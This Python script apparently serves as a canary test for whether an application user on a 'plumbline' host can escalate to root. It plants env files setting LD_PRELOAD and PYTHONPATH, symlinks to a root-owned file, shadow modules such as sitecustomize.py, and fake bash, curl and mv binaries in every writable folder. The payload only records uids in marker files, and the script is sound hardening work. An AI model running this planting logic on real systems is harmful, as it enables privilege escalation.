"""What code in the application can try to become root: it runs on the machine, as the application's user, and needs
nothing but Python.

    attacker.py plant    finds every place that it may write to, and leaves there what a process of root's could follow
    attacker.py writable prints these places

Whatever runs of it notes its user in the files of MARKS.
"""

import contextlib
import os
import re
import stat
import sys
from pathlib import Path

VICTIM = "/root/victim"
MARKS = ("/var/lib/app/ran", "/dev/shm/ran", "/run/ran", "/run/plumbline-secrets/ran")
SCRIPTS = ("/usr/local/lib/plumbline", "/etc/systemd/system", "/usr/lib/systemd/system")
# The application's own files are of no use to who already is the application.
ELSEWHERE = ("/proc", "/sys", "/srv/app/releases", "/var/cache/plumbline")
# Files of its own, which only itself would miss.
HARMLESS = {"static", ".static", "serving", "connections"}
# As many as there are of root's files that could be looked for in a folder.
COMMON = ["secrets.env", "secrets.new", "environment", "environment.new", ".env", "app", "app.zip", "runtime.zip"]
SHELL = "(id -u >>/var/lib/app/ran; id -u >>/dev/shm/ran; id -u >>/run/ran; id -u >>/run/plumbline-secrets/ran) 2>&-\n"
MODULE = f"""\
import os
for mark in {MARKS!r}:
    try:
        open(mark, "a").write(f"{{os.getuid()}}\\n")
    except OSError:
        pass
"""


def note():
    for mark in MARKS:
        try:
            with open(mark, "a") as file:
                file.write(f"{os.getuid()}\n")
        except OSError:
            pass


def writable():
    """Folders, and files in folders of others."""
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in ELSEWHERE]
        if os.access(folder, os.W_OK):
            yield folder
        else:
            yield from (path for path in (os.path.join(folder, name) for name in files) if is_writable(path))


def is_writable(path):
    return os.access(path, os.W_OK) and not os.path.islink(path) and not stat.S_ISCHR(os.lstat(path).st_mode)


def names():
    """Of all that the scripts and units of the machine speak of; modules are shadowed by ones that run."""
    found = set(COMMON)
    for folder in SCRIPTS:
        for path in Path(folder).rglob("*plumbline*"):
            if path.is_file() and os.access(path, os.R_OK):
                found |= set(re.findall(r"[\w$.-]*/([\w.-]{2,40})", path.read_text()))
    return sorted(name for name in found - HARMLESS - {".", ".."} if not name.endswith(".py"))


def plant():
    note()
    for place in writable():
        if os.path.isdir(place):
            fill(Path(place))
            shadow(Path(place))
    if os.access(".", os.W_OK):  # a release on its way
        fill(Path.cwd())


def fill(folder):
    """Links to root's own file under half of the names, settings of an environment under the others."""
    shell = folder / "payload.sh"
    attempt(shell.write_text, SHELL)
    settings = "".join(f"{name}={shell}\n" for name in ("BASH_ENV", "ENV", "LD_PRELOAD", "PYTHONSTARTUP"))
    settings += f"PYTHONPATH={folder}\nPATH={folder}:/usr/bin\n"
    for number, name in enumerate(names()):
        path = folder / name
        if number % 2 == os.getpid() % 2:
            attempt(path.symlink_to, VICTIM)
        elif not os.path.lexists(path):
            attempt(path.write_text, settings)


def shadow(folder):
    """Modules and programs of the names that root's scripts ask for."""
    for name in ("sitecustomize.py", "usercustomize.py", "redis.py", "MySQLdb.py", "json.py", "zipfile.py"):
        if not os.path.lexists(folder / name):
            attempt((folder / name).write_text, MODULE)
    for name in ("python3", "bash", "curl", "nginx", "mv", "mktemp"):
        attempt((folder / name).write_text, f"#!/bin/sh\n{SHELL}")
        attempt((folder / name).chmod, 0o755)


def attempt(act, *arguments):
    with contextlib.suppress(OSError):
        act(*arguments)


if __name__ == "__main__":
    if sys.argv[1] == "plant":
        plant()
    else:
        print("\n".join(writable()))
